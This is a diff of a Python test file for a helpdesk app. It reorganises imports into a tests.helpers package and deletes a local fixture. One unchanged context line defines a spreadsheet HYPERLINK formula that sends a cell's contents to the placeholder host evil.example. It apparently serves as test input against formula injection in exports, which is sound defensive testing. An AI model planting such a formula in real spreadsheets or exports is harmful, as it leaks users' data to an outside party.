@@ -25,10 +25,11 @@ from helpdesk.logins.models import LoginAttempt, LoginOutcome
 from helpdesk.logins.service import reserve
 from tests.conftest import serving, table_counts
 from tests.factories import PASSWORD, ContactFactory
-from tests.test_api import Client, token_for
-from tests.test_auth import CSRF_RE, World, login, post, receive, signed_in
-from tests.test_metrics import FIRST, LAST, History
-from tests.test_webhooks import ACCOUNT, sign, text_delivery
+from tests.helpers.api import Client, token_for
+from tests.helpers.console import CSRF_RE, login, post, signed_in
+from tests.helpers.metrics import FIRST, LAST, History
+from tests.helpers.webhooks import ACCOUNT, sign, text_delivery
+from tests.helpers.world import World, receive
 
 RANGE = {"from": FIRST.isoformat(), "to": LAST.isoformat()}
 FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'
@@ -401,11 +402,6 @@ def test_a_settled_success_still_starts_the_count_again(client, world):
         assert login(client, world.agent.email, "nope").status_code == 401
     assert login(client, world.agent.email).status_code == 302
     assert outcomes() == {LoginOutcome.FAILURE: LIMIT - 1, LoginOutcome.SUCCESS: 1}
-
-
-@pytest.fixture
-def world() -> World:
-    return World()
 
 
 # Security headers -------------------------------------------------------------------------------
